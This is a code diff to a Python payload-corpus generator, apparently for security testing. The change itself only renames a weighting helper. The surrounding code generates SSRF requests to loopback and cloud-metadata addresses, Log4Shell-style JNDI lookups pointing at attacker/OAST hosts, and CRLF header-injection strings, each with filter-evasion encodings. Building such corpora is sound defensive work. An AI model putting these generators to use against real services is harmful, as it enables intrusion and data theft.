@@ -5,7 +5,7 @@ Each generator returns (value, evasion, forced_wire_mode_or_None).
 
 import re
 
-from corpus_payloads_inj import OAST, ATTACKER_IPS, _weighted
+from corpus_payloads_inj import OAST, ATTACKER_IPS, weighted
 
 # Loopback and metadata addresses written every way URL parsers accept them.
 LOOPBACK = {
@@ -59,11 +59,11 @@ def ssrf_value(rng):
         host = rng.choice(PRIVATE)
         return "http://%s%s" % (host, rng.choice(LOCAL_PATHS)), "none", None
     if r < 0.62:
-        enc = _weighted(rng, [(k, 6 if k == "none" else 4) for k in METADATA])
+        enc = weighted(rng, [(k, 6 if k == "none" else 4) for k in METADATA])
         host = rng.choice(METADATA[enc])
         path = rng.choice(META_PATHS)
     else:
-        enc = _weighted(rng, [(k, 5 if k == "none" else 4) for k in LOOPBACK])
+        enc = weighted(rng, [(k, 5 if k == "none" else 4) for k in LOOPBACK])
         host = rng.choice(LOOPBACK[enc])
         path = rng.choice(LOCAL_PATHS)
     scheme = rng.choice(["http://"] * 8 + ["https://", "HTTP://", "//"])
@@ -153,7 +153,7 @@ def jndi_value(rng):
     target = "%s://%s%s%s" % (proto, exfil, host, path)
     if rng.random() < 0.08:
         target = "%s://127.0.0.1#%s%s" % (proto, host, path)
-    ev = _weighted(rng, [("none", 30), ("lower", 8), ("upper", 5), ("default", 14), ("env", 8), ("date", 4), ("sys", 3),
+    ev = weighted(rng, [("none", 30), ("lower", 8), ("upper", 5), ("default", 14), ("env", 8), ("date", 4), ("sys", 3),
                          ("k8s", 3), ("mixed", 10), ("partial", 6), ("nested", 4), ("json_unicode_dollar", 5)])
     if ev == "none":
         return "${jndi:%s}" % target, "none", None
@@ -209,7 +209,7 @@ def crlf_value(rng):
     """Returns a prewire value (the CR LF live in the encoding)."""
     inj = rng.choice(CRLF_INJECT)
     prefix = rng.choice(["", "", "en", "/account", "https://shop.example/", "x", "1"])
-    style = _weighted(rng, [("none", 40), ("lf_only", 12), ("unicode_crlf", 8), ("double_encode", 8), ("unicode_u", 5), ("hash_cr", 5), ("uppercase_hex", 10)])
+    style = weighted(rng, [("none", 40), ("lf_only", 12), ("unicode_crlf", 8), ("double_encode", 8), ("unicode_u", 5), ("hash_cr", 5), ("uppercase_hex", 10)])
     enc_rest = inj.replace("\r\n", "%0d%0a").replace(" ", "%20").replace("<", "%3c").replace(">", "%3e").replace(";", "%3b")
     if style == "none":
         return prefix + "%0d%0a" + enc_rest, "none", "prewire"
